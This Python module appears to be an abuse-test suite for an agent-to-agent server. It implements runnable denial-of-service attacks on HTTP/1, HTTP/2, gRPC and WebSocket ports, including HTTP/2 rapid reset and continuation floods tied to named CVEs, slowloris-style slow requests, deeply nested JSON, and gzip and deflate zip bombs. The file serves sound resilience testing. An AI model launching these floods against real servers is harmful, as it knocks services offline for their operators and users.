"""What a stranger can do to a server without knowing anybody: each for a while, on real ports.

An attack gives how much it did. Connections that the server breaks are part of it.
"""

from __future__ import annotations

import asyncio
import json
import struct
import time
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any, Final

import grpc
from tests.abuse import h2

from dragoman.core.task import frames

Attack = Callable[[str, str, float], Awaitable[int]]
"""HTTP's address, gRPC's address, seconds."""

BROKEN: Final = (ConnectionError, asyncio.IncompleteReadError, TimeoutError)
LIST: Final = "/lf.a2a.v1.A2AService/ListTasks"
WATCH: Final = "/grpc.health.v1.Health/Watch"


async def _connect(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    host, _, port = address.rpartition(":")
    return await asyncio.open_connection(host, int(port))


async def _swallow(reader: asyncio.StreamReader) -> None:
    """Takes what comes, so that nobody waits for us."""
    with suppress(*BROKEN):
        while await reader.read(1 << 16):
            pass


async def _over_h2(address: str, seconds: float, created: Callable[[int], bytes], *, sink: bool = True) -> int:
    """Sends what `made` makes of a number, again and again, on a new connection whenever the server breaks
    one.
    """
    until, count = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        taking, writer = None, None
        with suppress(*BROKEN):
            reader, writer = await h2.connect(address)
            taking = asyncio.create_task(_swallow(reader)) if sink else None
            number = 0
            while time.monotonic() < until and not (taking and taking.done()):
                writer.write(b"".join(created(number + one) for one in range(50)))
                number += 50
                count += 50
                await asyncio.wait_for(writer.drain(), 1)
        if writer is not None:
            writer.transport.abort()
        if taking is not None:
            await taking
    return count


# HTTP/2 -----------------------------------------------------------------------------------------------------------


async def rapid_reset(http: str, at_grpc: str, seconds: float) -> int:
    """Calls that are taken back as soon as they are made (CVE-2023-44487)."""
    head = h2.call(LIST)

    def created(number: int) -> bytes:
        stream = 2 * number + 1
        return h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head) + h2.frame(h2.RESET, 0, stream, struct.pack("!I", 8))

    return sum(await asyncio.gather(*(_over_h2(at_grpc, seconds, created) for _ in range(4))))


async def stream_flood(http: str, at_grpc: str, seconds: float) -> int:
    """Calls that are begun and never completed, as many as a connection takes and more."""
    head = h2.call(LIST)
    return sum(
        await asyncio.gather(
            *(
                _over_h2(at_grpc, seconds, lambda number: h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * number + 1, head))
                for _ in range(4)
            )
        )
    )


async def watch_flood(http: str, at_grpc: str, seconds: float) -> int:
    """Streams of health that never end, which need no credentials."""
    head, body = h2.call(WATCH), bytes(5)

    def created(number: int) -> bytes:
        stream = 2 * number + 1
        return h2.frame(h2.HEADERS, h2.END_HEADERS, stream, head) + h2.frame(h2.DATA, h2.END_STREAM, stream, body)

    return sum(await asyncio.gather(*(_over_h2(at_grpc, seconds, created) for _ in range(4))))


async def continuation_flood(http: str, at_grpc: str, seconds: float) -> int:
    """Headers that go on and on (CVE-2024-27316)."""
    piece = h2.literal(b"x", b"y" * 1000)

    def created(number: int) -> bytes:
        kind = h2.CONTINUATION if number else h2.HEADERS
        return h2.frame(kind, 0, 1, piece)

    return await _over_h2(at_grpc, seconds, created)


async def header_bomb(http: str, at_grpc: str, seconds: float) -> int:
    """A large header, put into the server's table once and named a thousand times in each call (CVE-2016-6581)."""
    big = h2.indexed(b"x-bomb", b"y" * 3900)

    def created(number: int) -> bytes:
        head = h2.call(LIST) + (b"" if number else big) + b"\xbe" * 1000
        return h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * number + 1, head)

    return await _over_h2(at_grpc, seconds, created)


async def ping_flood(http: str, at_grpc: str, seconds: float) -> int:
    """Pings, settings and empty frames, whose answers nobody takes (CVE-2019-9512, 9515, 9518)."""
    noise = (
        h2.frame(h2.PING, 0, 0, bytes(8)) + h2.frame(h2.SETTINGS, 0, 0) + h2.frame(h2.WINDOW, 0, 0, bytes((0, 0, 0, 1)))
    )
    return await _over_h2(at_grpc, seconds, lambda _: noise, sink=False)


async def half_open(http: str, at_grpc: str, seconds: float) -> int:
    """Connections to both ports that say nothing."""
    writers = set()
    for number in range(600):
        with suppress(*BROKEN):
            writers.add((await _connect(at_grpc if number % 2 else http))[1])
    await asyncio.sleep(seconds)
    for writer in writers:
        writer.transport.abort()
    return len(writers)


# HTTP/1 -----------------------------------------------------------------------------------------------------------


async def _each_a_byte(http: str, seconds: float, begin: bytes) -> int:
    """Connections that begin so, and send a byte now and then."""
    writers = []
    for _ in range(300):
        with suppress(*BROKEN):
            writer = (await _connect(http))[1]
            writer.write(begin)
            writers.append(writer)
    until, count = time.monotonic() + seconds, len(writers)
    while time.monotonic() < until:
        for writer in writers:
            writer.write(b"a")
        count += len(writers)
        await asyncio.sleep(0.1)
    for writer in writers:
        writer.transport.abort()
    return count


async def slow_heads(http: str, at_grpc: str, seconds: float) -> int:
    """Requests whose heads come a byte at a time."""
    return await _each_a_byte(http, seconds, b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ")


async def slow_bodies(http: str, at_grpc: str, seconds: float) -> int:
    """Requests whose bodies come a byte at a time."""
    head = (
        b"POST /message:send HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 16000000\r\n\r\n"
    )
    return await _each_a_byte(http, seconds, head + b'{"')


async def _again(http: str, seconds: float, data: bytes, callers: int = 4) -> int:
    """Says something on one connection after another, and takes what comes back."""

    async def caller() -> int:
        until, count = time.monotonic() + seconds, 0
        while time.monotonic() < until:
            with suppress(*BROKEN):
                reader, writer = await _connect(http)
                writer.write(data)
                await asyncio.wait_for(writer.drain(), 5)
                await asyncio.wait_for(reader.read(1 << 16), 30)
                writer.transport.abort()
            count += 1
        return count

    return sum(await asyncio.gather(*(caller() for _ in range(callers))))


async def large_heads(http: str, at_grpc: str, seconds: float) -> int:
    """Headers larger than are taken, and more of them."""
    lines = b"".join(b"X-%d: %b\r\n" % (number, b"y" * 15000) for number in range(90))
    return await _again(http, seconds, b"GET / HTTP/1.1\r\nHost: a\r\n" + lines + b"\r\n")


async def pipelined(http: str, at_grpc: str, seconds: float) -> int:
    """Thousands of requests in one go, whose answers nobody takes."""
    lot = b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n" * 2000
    writers, count = [], 0
    until = time.monotonic() + seconds
    writers += [(await _connect(http))[1] for _ in range(8)]
    while time.monotonic() < until:
        for writer in writers:
            if writer.transport.get_write_buffer_size() < len(lot):
                writer.write(lot)
                count += 2000
        await asyncio.sleep(0.01)
    for writer in writers:
        writer.transport.abort()
    return count


async def tiny_chunks(http: str, at_grpc: str, seconds: float) -> int:
    """A body of chunks of one byte."""
    head = b"POST /message:send HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
    head += b"Transfer-Encoding: chunked\r\n\r\n"
    return await _again(http, seconds, head + b"1\r\n \r\n" * 200_000 + b"0\r\n\r\n")


# JSON -------------------------------------------------------------------------------------------------------------


def _post(body: bytes, *headers: str) -> bytes:
    lines = "".join(f"{header}\r\n" for header in headers)
    head = (
        f"POST /message:send HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n"
    )
    return f"{head}{lines}\r\n".encode() + body


def _message(part: str) -> bytes:
    return f'{{"message":{{"messageId":"m","role":"ROLE_USER","parts":[{part}]}}}}'.encode()


MEBI: Final = 1 << 20


async def deep_json(http: str, at_grpc: str, seconds: float) -> int:
    """Fifteen million opening brackets."""
    return await _again(http, seconds, _post(b"[" * (15 * MEBI)))


async def deep_objects(http: str, at_grpc: str, seconds: float) -> int:
    """A part whose data nests as deep as the reader goes."""
    return await _again(http, seconds, _post(_message('{"data":' + '{"a":' * 240 + "1" + "}" * 240 + "}")))


async def many_values(http: str, at_grpc: str, seconds: float) -> int:
    """Seven million numbers in one part."""
    return await _again(http, seconds, _post(_message('{"data":[' + "0," * (7 * MEBI) + "0]}")), callers=2)


async def many_parts(http: str, at_grpc: str, seconds: float) -> int:
    """A million parts."""
    return await _again(http, seconds, _post(_message('{"text":"a"},' * MEBI + '{"text":"a"}')), callers=2)


async def suspicious_json(http: str, at_grpc: str, seconds: float) -> int:
    """Fifteen megabytes that look as if they repeated a key, so that they are read twice."""
    return await _again(
        http, seconds, _post(_message('{"data":{' + '"\\u0061":1,' * (MEBI + 200_000) + '"b":2}}')), callers=2
    )


def _field(number: int, payload: bytes) -> bytes:
    return frames.frame(number, payload)


async def _over_grpc(address: str, seconds: float, path: str, request: bytes) -> int:
    until, count = time.monotonic() + seconds, 0
    async with grpc.aio.insecure_channel(address, options=[("grpc.max_send_message_length", -1)]) as channel:
        call: Any = channel.unary_unary(path)
        while time.monotonic() < until:
            with suppress(grpc.aio.AioRpcError):
                await call(request)
            count += 1
    return count


async def grpc_values(http: str, at_grpc: str, seconds: float) -> int:
    """Four million values in one part, over gRPC."""
    value = _field(6, _field(1, b"\x08\x00") * (3 * MEBI))  # Value.list_value of null values
    part = _field(4, value)  # Part.data
    request = _field(2, _field(1, b"m") + b"\x20\x01" + _field(5, part))
    return await _over_grpc(at_grpc, seconds, "/lf.a2a.v1.A2AService/SendMessage", request)


async def grpc_parts(http: str, at_grpc: str, seconds: float) -> int:
    """Three million parts, over gRPC, in both generations."""
    old = _field(1, _field(1, b"m") + b"\x20\x01" + _field(5, _field(1, b"a")) * (3 * MEBI))
    new = _field(2, _field(1, b"m") + b"\x20\x01" + _field(5, _field(1, b"a")) * (3 * MEBI))
    return await _over_grpc(at_grpc, seconds / 2, "/a2a.v1.A2AService/SendMessage", old) + await _over_grpc(
        at_grpc, seconds / 2, "/lf.a2a.v1.A2AService/SendMessage", new
    )


async def base64_bomb(http: str, at_grpc: str, seconds: float) -> int:
    """Sixteen megabytes of base64, and as much that is none."""
    good = _post(_message('{"raw":"' + "A" * (15 * MEBI) + '"}'))
    bad = _post(_message('{"raw":"' + "A" * (15 * MEBI) + '!"}'))
    return sum(await asyncio.gather(_again(http, seconds, good, 1), _again(http, seconds, bad, 1)))


async def zip_bomb(http: str, at_grpc: str, seconds: float) -> int:
    """256 MiB of zeros, packed a thousand times smaller."""
    packer = zlib.compressobj(9, wbits=31)
    packed = b"".join([packer.compress(bytes(MEBI)) for _ in range(256)] + [packer.flush()])
    return await _again(http, seconds, _post(packed, "Content-Encoding: gzip"), callers=2)


# WebSocket --------------------------------------------------------------------------------------------------------

_UPGRADE: Final = (
    b"GET /ws HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
)


def ws_frame(
    opcode: int, payload: bytes, *, final: bool = True, packed: bool = False, claims: int | None = None
) -> bytes:
    """A frame with a mask of zeros. `claims`: the length that it says."""
    size = len(payload) if claims is None else claims
    head = bytes((opcode | (0x80 if final else 0) | (0x40 if packed else 0),))
    if size < 126:
        head += bytes((0x80 | size,))
    elif size < 1 << 16:
        head += b"\xfe" + struct.pack("!H", size)
    else:
        head += b"\xff" + struct.pack("!Q", size)
    return head + bytes(4) + payload


async def _over_ws(http: str, seconds: float, lot: bytes, *, extension: str = "", sockets: int = 4) -> int:
    async def one() -> int:
        until, count = time.monotonic() + seconds, 0
        while time.monotonic() < until:
            with suppress(*BROKEN):
                reader, writer = await _connect(http)
                writer.write(_UPGRADE + (extension and f"Sec-WebSocket-Extensions: {extension}\r\n").encode() + b"\r\n")
                await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
                taking = asyncio.create_task(_swallow(reader))
                while time.monotonic() < until and not taking.done():
                    writer.write(lot)
                    count += 1
                    await asyncio.wait_for(writer.drain(), 5)
                writer.transport.abort()
                await taking
        return count

    return sum(await asyncio.gather(*(one() for _ in range(sockets))))


async def ws_tiny_frames(http: str, at_grpc: str, seconds: float) -> int:
    """Calls that are none, a thousand at a time."""
    return 1000 * await _over_ws(http, seconds, ws_frame(1, b"{}") * 1000)


async def ws_pings(http: str, at_grpc: str, seconds: float) -> int:
    """Pings, a thousand at a time."""
    return 1000 * await _over_ws(http, seconds, ws_frame(9, b"x" * 100) * 1000)


async def ws_giant_frame(http: str, at_grpc: str, seconds: float) -> int:
    """A frame that says it has a terabyte, and begins to send it."""
    return await _over_ws(http, seconds, ws_frame(1, bytes(MEBI), claims=1 << 40))


async def ws_fragments(http: str, at_grpc: str, seconds: float) -> int:
    """A message in pieces that never ends, most of them empty."""
    lot = ws_frame(1, b"[", final=False) + ws_frame(0, b"", final=False) * 1000
    return 1000 * await _over_ws(http, seconds, lot)


async def ws_zip_bomb(http: str, at_grpc: str, seconds: float) -> int:
    """A packed message that unpacks to 256 MiB."""
    packer = zlib.compressobj(9, wbits=-15)
    packed = b"".join([packer.compress(bytes(MEBI)) for _ in range(256)] + [packer.flush(zlib.Z_SYNC_FLUSH)])
    return await _over_ws(
        http, seconds, ws_frame(1, packed.removesuffix(b"\0\0\xff\xff"), packed=True), extension="permessage-deflate"
    )


async def ws_bad_text(http: str, at_grpc: str, seconds: float) -> int:
    """Large calls that are no JSON-RPC."""
    text = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "x", "params": {"a": "b" * MEBI}}).encode()
    return await _over_ws(http, seconds, ws_frame(1, text))


ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        *(rapid_reset, stream_flood, watch_flood, continuation_flood, header_bomb, ping_flood, half_open),
        *(slow_heads, slow_bodies, large_heads, pipelined, tiny_chunks),
        *(
            deep_json,
            deep_objects,
            many_values,
            many_parts,
            suspicious_json,
            grpc_values,
            grpc_parts,
            base64_bomb,
            zip_bomb,
        ),
        *(ws_tiny_frames, ws_pings, ws_giant_frame, ws_fragments, ws_zip_bomb, ws_bad_text),
    )
}


async def main(name: str, http: str, at_grpc: str, seconds: str) -> None:
    """One attack, in a process of its own."""
    print(await ATTACKS[name](http, at_grpc, float(seconds)))


if __name__ == "__main__":
    import sys

    asyncio.run(main(*sys.argv[1:]))
